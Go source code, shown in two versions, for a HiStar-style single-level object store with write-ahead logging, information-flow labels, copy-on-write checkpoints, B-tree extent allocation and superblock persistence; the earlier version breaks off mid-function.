	}
	return out
}

// Put stores (or replaces) the contents of an object in memory.  Nothing is
// written to disk until SyncObject or a checkpoint, mirroring HiStar's
// delayed allocation.
func (s *Store) Put(id uint64, data []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.putLocked(id, data)
	return nil
}

func (s *Store) putLocked(id uint64, data []byte) {
	s.cache[id] = append([]byte(nil), data...)
	s.dirty[id] = true
	delete(s.dead, id)
	s.stats.Puts++
}

// Get returns the contents of an object, reading it from disk if it is not
// cached.
func (s *Store) Get(id uint64) ([]byte, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil, ErrClosed
	}
	s.stats.Gets++
	if data, ok := s.cache[id]; ok {
		return append([]byte(nil), data...), nil
	}
	if s.dead[id] {
		return nil, ErrNoSuchObject
	}
	off, ok := s.objMap.Get(btree.K1(id))
	if !ok {
		return nil, ErrNoSuchObject
	}
	size := s.objSizes[id]
	buf := make([]byte, size)
	if size > 0 {
		if _, err := s.d.ReadAt(buf, int64(off)); err != nil {
			return nil, err
		}
	}
	s.cache[id] = append([]byte(nil), buf...)
	return buf, nil
}

// PutLabeled is Put plus recording the object's information-flow label.
// Labels are serialized in their canonical sorted form (into every SyncObject
// log record, and into the metadata snapshot at checkpoint) and their
// fingerprints are recomputed exactly once on load, so a restored system
// resumes with warm comparison-cache keys.
func (s *Store) PutLabeled(id uint64, lbl label.Label, data []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.putLocked(id, data)
	s.setLabelLocked(id, lbl)
	return nil
}

// SetLabel records (or replaces) the label of an object without touching its
// contents.
func (s *Store) SetLabel(id uint64, lbl label.Label) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.setLabelLocked(id, lbl)
	return nil
}

// setLabelLocked records a label and keeps the fingerprint index in step.
func (s *Store) setLabelLocked(id uint64, lbl label.Label) {
	if old, ok := s.labels[id]; ok {
		s.labelIndex.Delete(btree.K2(uint64(old.Fingerprint()), id))
	}
	s.labels[id] = lbl
	s.labelIndex.Put(btree.K2(uint64(lbl.Fingerprint()), id), 0)
}

// clearLabelLocked drops an object's label and its index entry.
func (s *Store) clearLabelLocked(id uint64) {
	if old, ok := s.labels[id]; ok {
		s.labelIndex.Delete(btree.K2(uint64(old.Fingerprint()), id))
		delete(s.labels, id)
	}
}

// decodeLabel is the store's only route to label deserialization; it feeds
// the LabelDecodes counter the index tests assert against.
func (s *Store) decodeLabel(src []byte) (label.Label, []byte, error) {
	s.stats.LabelDecodes++
	return label.DecodeBinary(src)
}

// Label returns the stored label of an object, if one was recorded.
func (s *Store) Label(id uint64) (label.Label, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	l, ok := s.labels[id]
	return l, ok
}

// LabelCount returns how many objects have a recorded label.
func (s *Store) LabelCount() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.labels)
}

// ObjectsWithLabel returns, in ascending order, the IDs of every object
// whose label has the given fingerprint — the "all objects tainted by
// category c" scan.  It is answered entirely from the fingerprint-keyed
// label index: no label is deserialized or even compared, which the
// LabelDecodes stat makes checkable.
func (s *Store) ObjectsWithLabel(fp label.Fingerprint) []uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.stats.IndexQueries++
	var out []uint64
	s.labelIndex.ScanPrefix(uint64(fp), func(k btree.Key, _ uint64) bool {
		out = append(out, k[1])
		return true
	})
	return out
}

// VerifyLabelIndex checks that the fingerprint index and the label map
// mirror each other exactly; the recovery tests run it after every replayed
// crash.
func (s *Store) VerifyLabelIndex() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if n := s.labelIndex.Len(); n != len(s.labels) {
		return fmt.Errorf("store: label index has %d entries for %d labels", n, len(s.labels))
	}
	for id, lbl := range s.labels {
		if _, ok := s.labelIndex.Get(btree.K2(uint64(lbl.Fingerprint()), id)); !ok {
			return fmt.Errorf("store: label index missing object %d (fingerprint %x)", id, uint64(lbl.Fingerprint()))
		}
	}
	return nil
}

// Cached reports whether the object's contents are resident in memory.
func (s *Store) Cached(id uint64) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, ok := s.cache[id]
	return ok
}

// EvictCache drops all clean objects from the in-memory cache, forcing
// subsequent Gets to hit the disk (used by the uncached read benchmarks).
func (s *Store) EvictCache() {
	s.mu.Lock()
	defer s.mu.Unlock()
	for id := range s.cache {
		if !s.dirty[id] {
			delete(s.cache, id)
		}
	}
}

// Delete removes an object.
func (s *Store) Delete(id uint64) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.stats.Deletes++
	s.deleteLocked(id)
	return nil
}

func (s *Store) deleteLocked(id uint64) {
	delete(s.cache, id)
	delete(s.dirty, id)
	s.clearLabelLocked(id)
	s.dead[id] = true
}

// SyncObject durably records the current contents of one object — and, in
// the same log record, its canonical serialized label — by appending it to
// the write-ahead log and committing: the fast path for fsync of a single
// file's segment.  Because contents and label commit atomically, a crash
// after SyncObject can never resurrect the object with a stale or missing
// label.  Directory-level fsync in the Unix library uses Checkpoint instead,
// which is why the paper's synchronous unlink phase is so much slower on
// HiStar than Linux.
func (s *Store) SyncObject(id uint64) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	data, inCache := s.cache[id]
	isDead := s.dead[id]
	var lblBytes []byte
	if lbl, ok := s.labels[id]; ok && !isDead {
		lblBytes = lbl.AppendBinary(nil)
	}
	s.stats.ObjectSyncs++
	s.mu.Unlock()

	var rec wal.Record
	switch {
	case isDead:
		rec = wal.Record{ObjectID: id, Delete: true}
	case inCache:
		rec = wal.Record{ObjectID: id, Data: data, Label: lblBytes}
	default:
		// Nothing in memory and not deleted: the on-disk copy is current.
		return nil
	}
	if aerr := s.l.Append(rec); aerr != nil {
		if errors.Is(aerr, wal.ErrTooLarge) {
			// The record can never be logged (it exceeds the log region or
			// the format's label-length field); a checkpoint provides the
			// same durability — contents, label, and index — in one sweep.
			return s.Checkpoint()
		}
		return aerr
	}
	err := s.l.Commit()
	if errors.Is(err, wal.ErrFull) {
		// Apply the log to home locations and retry once.  The record is
		// still pending in the log; re-appending would duplicate it.
		if cerr := s.Checkpoint(); cerr != nil {
			return cerr
		}
		err = s.l.Commit()
	}
	if err == nil {
		s.mu.Lock()
		s.stats.BytesLogged += uint64(len(rec.Data))
		s.stats.LabelBytesLogged += uint64(len(rec.Label))
		s.mu.Unlock()
	}
	return err
}

// Checkpoint writes every dirty object to a freshly allocated home extent,
// persists the metadata trees and superblock, and truncates the log: the
// whole-system snapshot behind HiStar's group sync consistency choice.  The
// application either runs to completion or appears never to have started.
//
// Checkpoints are copy-on-write: a dirty object is never rewritten over the
// extent the current (still-referenced) snapshot points to, because a torn
// write there would corrupt the only intact copy — exactly the failure the
// crash-injection harness replays for.  Extents vacated by relocation or
// deletion are held back from the allocator until every data write of this
// checkpoint has issued, then returned to the free trees just before the
// metadata snapshot is serialized: the new snapshot records them free, while
// the old snapshot's extents were never overwritten, so whichever superblock
// a crash leaves behind references only intact data.
func (s *Store) Checkpoint() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.stats.Checkpoints++
	// Vacate extents of deleted objects (deferred: see above).
	for id := range s.dead {
		if off, ok := s.objMap.Get(btree.K1(id)); ok {
			size := s.objSizes[id]
			s.objMap.Delete(btree.K1(id))
			delete(s.objSizes, id)
			s.deferredFree = append(s.deferredFree, extent{off: int64(off), size: alignUp(size)})
		}
	}
	s.dead = make(map[uint64]bool)
	// Write dirty objects to new home extents.  Delayed allocation: space
	// is chosen only now, so consecutive dirty objects land contiguously.
	for id := range s.dirty {
		data := s.cache[id]
		if oldOff, ok := s.objMap.Get(btree.K1(id)); ok {
			oldSize := s.objSizes[id]
			s.objMap.Delete(btree.K1(id))
			s.deferredFree = append(s.deferredFree, extent{off: int64(oldOff), size: alignUp(oldSize)})
		}
		ext, err := s.allocate(int64(len(data)))
		if err != nil {
			return err
		}
		if len(data) > 0 {
			if _, err := s.d.WriteAt(data, ext.off); err != nil {
				return err
			}
		}
		s.objMap.Put(btree.K1(id), uint64(ext.off))
		s.objSizes[id] = int64(len(data))
		s.stats.BytesHome += uint64(len(data))
	}
	s.dirty = make(map[uint64]bool)
	// All data writes issued; the vacated extents may now rejoin the free
	// trees so the metadata snapshot below records them reusable.
	for _, e := range s.deferredFree {
		s.addFree(e)
	}
	s.deferredFree = nil
	if err := s.writeSuperblock(); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	if err := s.l.Truncate(); err != nil {
		return err
	}
	s.stats.LogApplications++
	return nil
}

// Close checkpoints and marks the store closed.
func (s *Store) Close() error {
	if err := s.Checkpoint(); err != nil {
		return err
	}
	s.mu.Lock()
	s.closed = true
	s.mu.Unlock()
	return nil
}

// ---------------------------------------------------------------------------
// Extent allocation.
// ---------------------------------------------------------------------------

func alignUp(n int64) int64 {
	if n <= 0 {
		return extentAlign
	}
	return (n + extentAlign - 1) / extentAlign * extentAlign
}

// allocate finds a free extent of at least size bytes using the
// free-by-size tree, splitting the extent when it is larger than needed.
func (s *Store) allocate(size int64) (extent, error) {
	need := alignUp(size)
	k, _, ok := s.freeBySize.Ceiling(btree.K2(uint64(need), 0))
	if !ok {
		return extent{}, ErrNoSpace
	}
	ext := extent{off: int64(k[1]), size: int64(k[0])}
	s.removeFree(ext)
	if ext.size > need {
		s.addFree(extent{off: ext.off + need, size: ext.size - need})
		ext.size = need
	}
	return ext, nil
}

// addFree inserts an extent into both free trees, coalescing with adjacent
// extents (the purpose of the offset-indexed tree).
func (s *Store) addFree(e extent) {
	if e.size <= 0 {
		return
	}
	// Coalesce with the preceding extent.
	if k, v, ok := s.freeByOff.Floor(btree.K1(uint64(e.off))); ok {
		prev := extent{off: int64(k[0]), size: int64(v)}
		if prev.off+prev.size == e.off {
			s.removeFree(prev)
			e.off = prev.off
			e.size += prev.size
		}
	}
	// Coalesce with the following extent.
	if k, v, ok := s.freeByOff.Ceiling(btree.K1(uint64(e.off + e.size))); ok {
		next := extent{off: int64(k[0]), size: int64(v)}
		if e.off+e.size == next.off {
			s.removeFree(next)
			e.size += next.size
		}
	}
	s.freeBySize.Put(btree.K2(uint64(e.size), uint64(e.off)), 0)
	s.freeByOff.Put(btree.K1(uint64(e.off)), uint64(e.size))
}

func (s *Store) removeFree(e extent) {
	s.freeBySize.Delete(btree.K2(uint64(e.size), uint64(e.off)))
	s.freeByOff.Delete(btree.K1(uint64(e.off)))
}

// FreeBytes returns the total free space in the data region.
func (s *Store) FreeBytes() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	var total int64
	s.freeByOff.Scan(func(_ btree.Key, v uint64) bool {
		total += int64(v)
		return true
	})
	return total
}

// ---------------------------------------------------------------------------
// Superblock and metadata persistence.
// ---------------------------------------------------------------------------

// The superblock stores the location and length of the serialized metadata
// (object map, object sizes, free list).  Metadata is written to a freshly
// allocated extent on every checkpoint and the superblock is updated last,
// so a crash during checkpoint leaves the previous snapshot intact.

func (s *Store) writeSuperblock() error {
	meta := s.encodeMetadata()
	if int64(len(meta)) > s.metaSize {
		return fmt.Errorf("store: metadata (%d bytes) exceeds the metadata area", len(meta))
	}
	next := 1 - s.metaWhich
	metaOff := logOffset + s.logSize + int64(next)*s.metaSize
	if len(meta) > 0 {
		if _, err := s.d.WriteAt(meta, metaOff); err != nil {
			return err
		}
	}
	var sb [superblockSize]byte
	binary.LittleEndian.PutUint64(sb[0:], superMagic)
	binary.LittleEndian.PutUint64(sb[8:], uint64(next))
	binary.LittleEndian.PutUint64(sb[16:], uint64(len(meta)))
	binary.LittleEndian.PutUint64(sb[24:], uint64(s.logSize))
	binary.LittleEndian.PutUint64(sb[32:], uint64(s.metaSize))
	if _, err := s.d.WriteAt(sb[:], superblockOffset); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	s.metaWhich = next
	return nil
}

func (s *Store) readSuperblock() error {
	var sb [superblockSize]byte
	if _, err := s.d.ReadAt(sb[:], superblockOffset); err != nil {
		return err
	}
	if binary.LittleEndian.Uint64(sb[0:]) != superMagic {
		return fmt.Errorf("store: bad superblock magic")
	}
	which := int(binary.LittleEndian.Uint64(sb[8:]))
	metaLen := int64(binary.LittleEndian.Uint64(sb[16:]))
	s.logSize = int64(binary.LittleEndian.Uint64(sb[24:]))
	s.metaSize = int64(binary.LittleEndian.Uint64(sb[32:]))
	if s.metaSize == 0 {
		// Images from before the metadata area size was recorded.
		s.metaSize = defaultMetaAreaSize
	}
	s.metaWhich = which
	if metaLen == 0 {
		dataStart := logOffset + s.logSize + 2*s.metaSize
		s.addFree(extent{off: dataStart, size: s.d.Size() - dataStart})
		return nil
	}
	metaOff := logOffset + s.logSize + int64(which)*s.metaSize
	meta := make([]byte, metaLen)
	if _, err := s.d.ReadAt(meta, metaOff); err != nil {
		return err
	}
	return s.decodeMetadata(meta)
}

// encodeMetadata serializes the object map, object sizes and free list.
func (s *Store) encodeMetadata() []byte {
	var buf []byte
	appendU64 := func(v uint64) { var b [8]byte; binary.LittleEndian.PutUint64(b[:], v); buf = append(buf, b[:]...) }

	appendU64(uint64(s.objMap.Len()))
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		appendU64(k[0])
		appendU64(v)
		appendU64(uint64(s.objSizes[k[0]]))
		return true
	})
	// Free list by offset.
	var frees [][2]uint64
	s.freeByOff.Scan(func(k btree.Key, v uint64) bool {
		frees = append(frees, [2]uint64{k[0], v})
		return true
	})
	appendU64(uint64(len(frees)))
	for _, f := range frees {
		appendU64(f[0])
		appendU64(f[1])
	}
	// Object labels, in canonical serialized form.  Older metadata images
	// simply end here; decodeMetadata treats the section as optional.
	appendU64(uint64(len(s.labels)))
	for id, lbl := range s.labels {
		appendU64(id)
		buf = lbl.AppendBinary(buf)
	}
	// The fingerprint-keyed label index, serialized in tree order.  Also
	// optional on decode: images written before the index existed rebuild
	// it from the label section above.
	appendU64(uint64(s.labelIndex.Len()))
	s.labelIndex.Scan(func(k btree.Key, _ uint64) bool {
		appendU64(k[0])
		appendU64(k[1])
		return true
	})
	return buf
}

func (s *Store) decodeMetadata(buf []byte) error {
	readU64 := func() (uint64, error) {
		if len(buf) < 8 {
			return 0, fmt.Errorf("store: truncated metadata")
		}
		v := binary.LittleEndian.Uint64(buf)
		buf = buf[8:]
		return v, nil
	}
	n, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.objMap.Put(btree.K1(id), off)
		s.objSizes[id] = int64(size)
	}
	nf, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nf; i++ {
		off, err := readU64()
		if err != nil {
			return err
		}
		size, err := readU64()
		if err != nil {
			return err
		}
		s.freeBySize.Put(btree.K2(size, off), 0)
		s.freeByOff.Put(btree.K1(off), size)
	}
	// Optional label section (absent in pre-label metadata images).
	if len(buf) == 0 {
		return nil
	}
	nl, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < nl; i++ {
		id, err := readU64()
		if err != nil {
			return err
		}
		lbl, rest, err := s.decodeLabel(buf)
		if err != nil {
			return err
		}
		buf = rest
		s.labels[id] = lbl
	}
	// Optional label-index section (absent in pre-index images, which
	// rebuild it from the labels just decoded).
	if len(buf) == 0 {
		for id, lbl := range s.labels {
			s.labelIndex.Put(btree.K2(uint64(lbl.Fingerprint()), id), 0)
		}
		return nil
	}
	ni, err := readU64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < ni; i++ {
		fp, err := readU64()
		if err != nil {
			return err
		}
		id, err := readU64()
		if err != nil {
			return err
		}
		s.labelIndex.Put(btree.K2(fp, id), 0)
	}
	return nil
}
