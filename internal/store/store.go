// Package store implements the HiStar single-level store (Sections 3 and 4):
// on bootup the entire system state is restored from the most recent on-disk
// snapshot, and all kernel objects are periodically checkpointed to disk.
// The layout follows the paper's description, inspired by XFS: a B+-tree
// maps object IDs to their location on disk, and two more B+-trees maintain
// the free-extent list (indexed by size, for allocation, and by location,
// for coalescing).  Write-ahead logging provides atomicity and crash
// consistency, and disk space allocation is delayed until an object is
// written to disk, making it easier to allocate contiguous extents.
//
// Three durability modes mirror the evaluation's LFS variants:
//
//   - asynchronous: Put buffers in memory; nothing reaches disk until a
//     checkpoint.
//   - per-object sync: SyncObject appends the object to the write-ahead log
//     and commits — a sequential write plus flush per operation.
//   - group sync: Checkpoint writes every dirty object to its home extent,
//     persists the metadata trees, and updates the superblock once.
package store

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sync"

	"histar/internal/btree"
	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/wal"
)

// Layout constants.
const (
	superblockOffset = 0
	superblockSize   = 4096
	logOffset        = superblockSize
	defaultLogSize   = 32 << 20 // 32 MB log region

	// metaAreaSize is the size of each of the two alternating metadata
	// areas; checkpoints write the serialized object map and free list into
	// the area not referenced by the current superblock, then flip the
	// superblock, so a crash mid-checkpoint always leaves one intact copy.
	metaAreaSize = 16 << 20

	superMagic = 0x48495354 // "HIST"

	// extentAlign is the allocation granularity.  HiStar's allocator does
	// not cluster small objects the way ext3's block groups do, which is the
	// effect behind the uncached small-file read gap in Figure 12; aligning
	// extents reproduces that dispersion.
	extentAlign = 8192
)

// Errors.
var (
	ErrNoSuchObject = errors.New("store: no such object")
	ErrNoSpace      = errors.New("store: out of disk space")
	ErrClosed       = errors.New("store: store is closed")
)

// Stats describes cumulative store activity.
type Stats struct {
	Puts            uint64
	Gets            uint64
	Deletes         uint64
	ObjectSyncs     uint64
	Checkpoints     uint64
	LogApplications uint64
	BytesLogged     uint64
	BytesHome       uint64
	DirtyObjects    int
	LiveObjects     int
}

type extent struct {
	off  int64
	size int64
}

// Store is a single-level store on a simulated disk.  It is safe for
// concurrent use.
type Store struct {
	mu sync.Mutex
	d  *disk.Disk
	l  *wal.Log

	logSize int64

	objMap     *btree.Tree // object ID → extent offset
	objSizes   map[uint64]int64
	freeBySize *btree.Tree // (size, offset) → 0
	freeByOff  *btree.Tree // (offset, 0) → size

	cache  map[uint64][]byte      // in-memory object contents (the "page cache")
	dirty  map[uint64]bool        // objects modified since last checkpoint/apply
	dead   map[uint64]bool        // objects deleted since last checkpoint
	labels map[uint64]label.Label // object labels, persisted in canonical form

	metaWhich int // which metadata area (0 or 1) the superblock references

	stats  Stats
	closed bool
}

// Options configure Format and Open.
type Options struct {
	// LogSize is the size of the write-ahead log region (default 32 MB).
	LogSize int64
}

// Format initializes an empty single-level store on d, erasing any previous
// contents, and returns it ready for use.
func Format(d *disk.Disk, opts Options) (*Store, error) {
	if opts.LogSize == 0 {
		opts.LogSize = defaultLogSize
	}
	s := &Store{
		d:          d,
		logSize:    opts.LogSize,
		objMap:     &btree.Tree{},
		objSizes:   make(map[uint64]int64),
		freeBySize: &btree.Tree{},
		freeByOff:  &btree.Tree{},
		cache:      make(map[uint64][]byte),
		dirty:      make(map[uint64]bool),
		dead:       make(map[uint64]bool),
		labels:     make(map[uint64]label.Label),
	}
	l, err := wal.New(d, logOffset, opts.LogSize)
	if err != nil {
		return nil, err
	}
	s.l = l
	dataStart := logOffset + opts.LogSize + 2*metaAreaSize
	s.addFree(extent{off: dataStart, size: d.Size() - dataStart})
	if err := s.writeSuperblock(); err != nil {
		return nil, err
	}
	return s, nil
}

// Open mounts an existing store from d, replaying the write-ahead log if the
// system crashed before the log was applied.  This is the "bootup restores
// the entire system state from the most recent on-disk snapshot" path.
func Open(d *disk.Disk, opts Options) (*Store, error) {
	if opts.LogSize == 0 {
		opts.LogSize = defaultLogSize
	}
	s := &Store{
		d:          d,
		logSize:    opts.LogSize,
		objMap:     &btree.Tree{},
		objSizes:   make(map[uint64]int64),
		freeBySize: &btree.Tree{},
		freeByOff:  &btree.Tree{},
		cache:      make(map[uint64][]byte),
		dirty:      make(map[uint64]bool),
		dead:       make(map[uint64]bool),
		labels:     make(map[uint64]label.Label),
	}
	if err := s.readSuperblock(); err != nil {
		return nil, err
	}
	s.l = wal.Open(d, logOffset, opts.LogSize)
	recs, err := s.l.Recover()
	if err != nil && !errors.Is(err, wal.ErrCorrupt) {
		return nil, err
	}
	// Re-apply committed log records on top of the checkpointed state.
	for _, r := range recs {
		if r.Delete {
			s.deleteLocked(r.ObjectID)
			continue
		}
		s.cache[r.ObjectID] = append([]byte(nil), r.Data...)
		s.dirty[r.ObjectID] = true
	}
	return s, nil
}

// Disk returns the underlying simulated disk.
func (s *Store) Disk() *disk.Disk { return s.d }

// Stats returns a snapshot of store statistics.
func (s *Store) Stats() Stats {
	s.mu.Lock()
	defer s.mu.Unlock()
	st := s.stats
	st.DirtyObjects = len(s.dirty)
	st.LiveObjects = s.objMap.Len() + len(s.dirtyOnlyLocked())
	return st
}

func (s *Store) dirtyOnlyLocked() []uint64 {
	var out []uint64
	for id := range s.dirty {
		if _, ok := s.objMap.Get(btree.K1(id)); !ok {
			out = append(out, id)
		}
	}
	return out
}

// Put stores (or replaces) the contents of an object in memory.  Nothing is
// written to disk until SyncObject or a checkpoint, mirroring HiStar's
// delayed allocation.
func (s *Store) Put(id uint64, data []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.putLocked(id, data)
	return nil
}

func (s *Store) putLocked(id uint64, data []byte) {
	s.cache[id] = append([]byte(nil), data...)
	s.dirty[id] = true
	delete(s.dead, id)
	s.stats.Puts++
}

// Get returns the contents of an object, reading it from disk if it is not
// cached.
func (s *Store) Get(id uint64) ([]byte, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil, ErrClosed
	}
	s.stats.Gets++
	if data, ok := s.cache[id]; ok {
		return append([]byte(nil), data...), nil
	}
	if s.dead[id] {
		return nil, ErrNoSuchObject
	}
	off, ok := s.objMap.Get(btree.K1(id))
	if !ok {
		return nil, ErrNoSuchObject
	}
	size := s.objSizes[id]
	buf := make([]byte, size)
	if size > 0 {
		if _, err := s.d.ReadAt(buf, int64(off)); err != nil {
			return nil, err
		}
	}
	s.cache[id] = append([]byte(nil), buf...)
	return buf, nil
}

// PutLabeled is Put plus recording the object's information-flow label.
// Labels are serialized in their canonical sorted form at the next
// checkpoint and their fingerprints are recomputed exactly once on load, so
// a restored system resumes with warm comparison-cache keys.
func (s *Store) PutLabeled(id uint64, lbl label.Label, data []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.putLocked(id, data)
	s.labels[id] = lbl
	return nil
}

// SetLabel records (or replaces) the label of an object without touching its
// contents.
func (s *Store) SetLabel(id uint64, lbl label.Label) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.labels[id] = lbl
	return nil
}

// Label returns the stored label of an object, if one was recorded.
func (s *Store) Label(id uint64) (label.Label, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	l, ok := s.labels[id]
	return l, ok
}

// LabelCount returns how many objects have a recorded label.
func (s *Store) LabelCount() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.labels)
}

// Cached reports whether the object's contents are resident in memory.
func (s *Store) Cached(id uint64) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, ok := s.cache[id]
	return ok
}

// EvictCache drops all clean objects from the in-memory cache, forcing
// subsequent Gets to hit the disk (used by the uncached read benchmarks).
func (s *Store) EvictCache() {
	s.mu.Lock()
	defer s.mu.Unlock()
	for id := range s.cache {
		if !s.dirty[id] {
			delete(s.cache, id)
		}
	}
}

// Delete removes an object.
func (s *Store) Delete(id uint64) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.stats.Deletes++
	s.deleteLocked(id)
	return nil
}

func (s *Store) deleteLocked(id uint64) {
	delete(s.cache, id)
	delete(s.dirty, id)
	delete(s.labels, id)
	s.dead[id] = true
}

// SyncObject durably records the current contents of one object by appending
// it to the write-ahead log and committing — the fast path for fsync of a
// single file's segment.  Directory-level fsync in the Unix library uses
// Checkpoint instead, which is why the paper's synchronous unlink phase is
// so much slower on HiStar than Linux.
func (s *Store) SyncObject(id uint64) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return ErrClosed
	}
	data, inCache := s.cache[id]
	isDead := s.dead[id]
	s.stats.ObjectSyncs++
	s.mu.Unlock()

	var rec wal.Record
	switch {
	case isDead:
		rec = wal.Record{ObjectID: id, Delete: true}
	case inCache:
		rec = wal.Record{ObjectID: id, Data: data}
	default:
		// Nothing in memory and not deleted: the on-disk copy is current.
		return nil
	}
	s.l.Append(rec)
	err := s.l.Commit()
	if errors.Is(err, wal.ErrFull) {
		// Apply the log to home locations and retry once.
		if cerr := s.Checkpoint(); cerr != nil {
			return cerr
		}
		s.l.Append(rec)
		err = s.l.Commit()
	}
	if err == nil {
		s.mu.Lock()
		s.stats.BytesLogged += uint64(len(rec.Data))
		s.mu.Unlock()
	}
	return err
}

// Checkpoint writes every dirty object to its home extent, persists the
// metadata trees and superblock, and truncates the log: the whole-system
// snapshot behind HiStar's group sync consistency choice.  The application
// either runs to completion or appears never to have started.
func (s *Store) Checkpoint() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return ErrClosed
	}
	s.stats.Checkpoints++
	// Free extents of deleted objects.
	for id := range s.dead {
		if off, ok := s.objMap.Get(btree.K1(id)); ok {
			size := s.objSizes[id]
			s.objMap.Delete(btree.K1(id))
			delete(s.objSizes, id)
			s.addFree(extent{off: int64(off), size: alignUp(size)})
		}
	}
	s.dead = make(map[uint64]bool)
	// Write dirty objects to (new) home extents.  Delayed allocation: space
	// is chosen only now, so consecutive dirty objects land contiguously.
	for id := range s.dirty {
		data := s.cache[id]
		if oldOff, ok := s.objMap.Get(btree.K1(id)); ok {
			oldSize := s.objSizes[id]
			if alignUp(oldSize) >= int64(len(data)) {
				// Rewrite in place (the paper's in-place segment flush path).
				if len(data) > 0 {
					if _, err := s.d.WriteAt(data, int64(oldOff)); err != nil {
						return err
					}
				}
				s.objSizes[id] = int64(len(data))
				s.stats.BytesHome += uint64(len(data))
				continue
			}
			// Relocate: free the old extent.
			s.objMap.Delete(btree.K1(id))
			s.addFree(extent{off: int64(oldOff), size: alignUp(oldSize)})
		}
		ext, err := s.allocate(int64(len(data)))
		if err != nil {
			return err
		}
		if len(data) > 0 {
			if _, err := s.d.WriteAt(data, ext.off); err != nil {
				return err
			}
		}
		s.objMap.Put(btree.K1(id), uint64(ext.off))
		s.objSizes[id] = int64(len(data))
		s.stats.BytesHome += uint64(len(data))
	}
	s.dirty = make(map[uint64]bool)
	if err := s.writeSuperblock(); err != nil {
		return err
	}
	if err := s.d.Flush(); err != nil {
		return err
	}
	if err := s.l.Truncate(); err != nil {
		return err
	}
	s.stats.LogApplications++
	return nil
}

// Close checkpoints and marks the store closed.
func (s *Store) Close() error {
	if err := s.Checkpoint(); err != nil {
		return err
	}
	s.mu.Lock()
	s.closed = true
	s.mu.Unlock()
	return nil
}

// ---------------------------------------------------------------------------
// Extent allocation.
// ---------------------------------------------------------------------------

func alignUp(n int64) int64 {
	if n <= 0 {
		return extentAlign
	}
	return (n + extentAlign - 1) / extentAlign * extentAlign
}

// allocate finds a free extent of at least size bytes using the
// free-by-size tree, splitting the extent when it is larger than needed.
func (s *Store) allocate(size int64) (extent, error) {
	need := alignUp(size)
	k, _, ok := s.freeBySize.Ceiling(btree.K2(uint64(need), 0))
	if !ok {
		return extent{}, ErrNoSpace
	}
	ext := extent{off: int64(k[1]), size: int64(k[0])}
	s.removeFree(ext)
	if ext.size > need {
		s.addFree(extent{off: ext.off + need, size: ext.size - need})
		ext.size = need
	}
	return ext, nil
}

// addFree inserts an extent into both free trees, coalescing with adjacent
// extents (the purpose of the offset-indexed tree).
func (s *Store) addFree(e extent) {
	if e.size <= 0 {
		return
	}
	// Coalesce with the preceding extent.
	if k, v, ok := s.freeByOff.Floor(btree.K1(uint64(e.off))); ok {
		prev := extent{off: int64(k[0]), size: int64(v)}
		if prev.off+prev.size == e.off {
			s.removeFree(prev)
			e.off = prev.off
			e.size += prev.size
		}
	}
	// Coalesce with the following extent.
	if k, v, ok := s.freeByOff.Ceiling(btree.K1(uint64(e.off + e.size))); ok {
		next := extent{off: int64(k[0]), size: int64(v)}
		if e.off+e.size == next.off {
			s.removeFree(next)
			e.size += next.size
		}
	}
	s.freeBySize.Put(btree.K2(uint64(e.size), uint64(e.off)), 0)
	s.freeByOff.Put(btree.K1(uint64(e.off)), uint64(e.size))
}

func (s *Store) removeFree(e extent) {
	s.freeBySize.Delete(btree.K2(uint64(e.size), uint64(e.off)))
	s.freeByOff.Delete(btree.K1(uint64(e.off)))
}

// FreeBytes returns the total free space in the data region.
func (s *Store) FreeBytes() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	var total int64
	s.freeByOff.Scan(func(_ btree.Key, v uint64) bool {
		total += int64(v)
		return true
	})
	return total
}

// ---------------------------------------------------------------------------
// Superblock and metadata persistence.
// ---------------------------------------------------------------------------

// The superblock stores the location and length of the serialized metadata
// (object map, object sizes, free list).  Metadata is written to a freshly
// allocated extent on every checkpoint and the superblock is updated last,
// so a crash during checkpoint leaves the previous snapshot intact.

func (s *Store) writeSuperblock() error {
	meta := s.encodeMetadata()
	if int64(len(meta)) > metaAreaSize {
		return fmt.Errorf("store: metadata (%d bytes) exceeds the metadata area", len(meta))
	}
	next := 1 - s.metaWhich
